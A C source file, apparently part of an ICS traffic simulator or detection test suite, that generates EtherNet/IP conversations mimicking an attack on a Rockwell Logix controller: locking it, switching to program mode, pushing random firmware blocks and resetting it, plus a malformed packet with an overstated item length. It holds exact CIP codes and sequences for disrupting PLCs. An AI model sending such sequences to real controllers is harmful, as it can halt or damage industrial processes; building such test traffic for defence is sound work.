/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * The incident on EtherNet/IP: a Logix controller is put into program mode, gets other firmware
 * the way ControlFLASH does it, and is reset. The classes are Rockwell's own.
 */
#include "enip.h"
#include "incident.h"

enum {
    CIP_RESET = 0x05,
    CIP_STOP = 0x07,
    CIP_LOCK = 0x4b,
    CIP_NV_PREPARE = 0x51,
    CIP_NV_START = 0x4b,
    CIP_NV_DATA = 0x4d,
    CLASS_IDENTITY = 0x01,
    CLASS_SEMAPHORE = 0x74,
    CLASS_MODE = 0x8e,
    CLASS_NV_STORAGE = 0xa1,
    FIRMWARE_BLOCK = 350,
    N_FIRMWARE_BLOCKS = 12,
    FIRMWARE_SIZE = FIRMWARE_BLOCK * N_FIRMWARE_BLOCKS,
    CIP_MAX = 512,
};

static void send_cip(struct ft_conv *conv, struct ft_turn *turn, const struct ft_buf *cip)
{
    ft_enip_unconnected(turn->out, ft_enip_session(conv), turn->pair, cip);
}

/* The semaphore object is addressed below the mode object. */
static void ask_lock(struct ft_conv *conv, struct ft_turn *turn)
{
    static const uint8_t path[] = {0x20, CLASS_MODE, 0x24, 0x01, 0x20, CLASS_SEMAPHORE, 0x24, 0x01};

    FT_BUF_LOCAL(cip, CIP_MAX);
    ft_buf_u8(&cip, CIP_LOCK);
    ft_buf_u8(&cip, sizeof(path) / 2);
    ft_buf_bytes(&cip, path, sizeof(path));
    ft_buf_u8(&cip, 0);
    send_cip(conv, turn, &cip);
}

static void answer_lock(struct ft_conv *conv, struct ft_turn *turn)
{
    FT_BUF_LOCAL(cip, CIP_MAX);
    ft_cip_answer(&cip, CIP_LOCK);
    send_cip(conv, turn, &cip);
}

static void ask_program_mode(struct ft_conv *conv, struct ft_turn *turn)
{
    FT_BUF_LOCAL(cip, CIP_MAX);
    ft_cip_request(&cip, CIP_STOP, CLASS_MODE, 1);
    send_cip(conv, turn, &cip);
}

static void answer_program_mode(struct ft_conv *conv, struct ft_turn *turn)
{
    FT_BUF_LOCAL(cip, CIP_MAX);
    ft_cip_answer(&cip, CIP_STOP);
    send_cip(conv, turn, &cip);
}

static void ask_prepare(struct ft_conv *conv, struct ft_turn *turn)
{
    FT_BUF_LOCAL(cip, CIP_MAX);
    ft_cip_request(&cip, CIP_NV_PREPARE, CLASS_NV_STORAGE, 1);
    ft_buf_le32(&cip, FIRMWARE_SIZE);
    ft_buf_le32(&cip, 0);
    ft_buf_le32(&cip, 0x00010001);
    ft_buf_le32(&cip, 0x0051aec3); /* a check sum, as it seems */
    send_cip(conv, turn, &cip);
}

static void answer_prepare(struct ft_conv *conv, struct ft_turn *turn)
{
    FT_BUF_LOCAL(cip, CIP_MAX);
    ft_cip_answer(&cip, CIP_NV_PREPARE);
    ft_buf_le16(&cip, 8);
    send_cip(conv, turn, &cip);
}

static void ask_update(struct ft_conv *conv, struct ft_turn *turn)
{
    FT_BUF_LOCAL(cip, CIP_MAX);
    ft_cip_request(&cip, CIP_NV_START, CLASS_NV_STORAGE, 1);
    ft_buf_le32(&cip, FIRMWARE_SIZE);
    ft_buf_le32(&cip, 0);
    send_cip(conv, turn, &cip);
}

static void answer_update(struct ft_conv *conv, struct ft_turn *turn)
{
    FT_BUF_LOCAL(cip, CIP_MAX);
    ft_cip_answer(&cip, CIP_NV_START);
    ft_buf_le32(&cip, 0x147b0000);
    ft_buf_le16(&cip, FIRMWARE_BLOCK);
    ft_buf_le16(&cip, 0x0304);
    ft_buf_le32(&cip, 0);
    send_cip(conv, turn, &cip);
}

static void talk_firmware(struct ft_conv *conv, struct ft_turn *turn, uint32_t block)
{
    FT_BUF_LOCAL(cip, CIP_MAX);
    if (turn->is_answer)
        ft_cip_answer(&cip, CIP_NV_DATA);
    else
        ft_cip_request(&cip, CIP_NV_DATA, CLASS_NV_STORAGE, 1);
    ft_buf_le32(&cip, block * FIRMWARE_BLOCK);
    if (turn->is_answer)
        ft_buf_le16(&cip, 2);
    for (unsigned i = 0; !turn->is_answer && i < FIRMWARE_BLOCK; i++)
        ft_buf_u8(&cip, (unsigned)ft_conv_random(conv, 256));
    send_cip(conv, turn, &cip);
}

static void ask_reset(struct ft_conv *conv, struct ft_turn *turn)
{
    FT_BUF_LOCAL(cip, CIP_MAX);
    ft_cip_request(&cip, CIP_RESET, CLASS_IDENTITY, 1);
    ft_buf_u8(&cip, 0); /* as if power was switched off and on */
    send_cip(conv, turn, &cip);
}

static void answer_reset(struct ft_conv *conv, struct ft_turn *turn)
{
    FT_BUF_LOCAL(cip, CIP_MAX);
    ft_cip_answer(&cip, CIP_RESET);
    send_cip(conv, turn, &cip);
}

static void talk_attack(struct ft_conv *conv, struct ft_turn *turn)
{
    static const struct ft_exchange before[] = {
        {ft_enip_register_talk, ft_enip_register_talk},
        {ask_lock, answer_lock},
        {ask_program_mode, answer_program_mode},
        {ask_prepare, answer_prepare},
        {ask_update, answer_update},
    };
    static const struct ft_exchange after[] = {{ask_reset, answer_reset}};
    enum {
        N_BEFORE = sizeof(before) / sizeof(before[0])
    };
    uint32_t block = turn->pair - N_BEFORE;

    if (turn->pair < N_BEFORE)
        ft_conv_play(conv, turn, before, N_BEFORE + 1, turn->pair);
    else if (block < N_FIRMWARE_BLOCKS)
        talk_firmware(conv, turn, block);
    else
        ft_conv_play(conv, turn, after, 1, 0);
}

/* The data item claims 512 octets more than the message has. */
static void ask_item_overrun(struct ft_conv *conv, struct ft_turn *turn)
{
    size_t item_len_at = turn->out->len + 24 + 8 + 4 + 2;

    FT_BUF_LOCAL(cip, CIP_MAX);
    ft_cip_request(&cip, 0x01, CLASS_IDENTITY, 1);
    send_cip(conv, turn, &cip);
    ft_store_le16(turn->out->data + item_len_at, (uint16_t)(cip.len + 512));
}

static void talk_malformed(struct ft_conv *conv, struct ft_turn *turn)
{
    static const struct ft_exchange script[] = {{ft_enip_register_talk, ft_enip_register_talk},
                                                {ask_item_overrun, NULL}};

    ft_conv_play(conv, turn, script, sizeof(script) / sizeof(script[0]), turn->pair);
}

const struct ft_conv_kind ft_attack_logix = {
    .talk = talk_attack, .port = FT_ENIP_PORT, .latency_us = 5000};
const struct ft_conv_kind ft_attack_enip_malformed = {
    .talk = talk_malformed, .port = FT_ENIP_PORT, .latency_us = 5000};
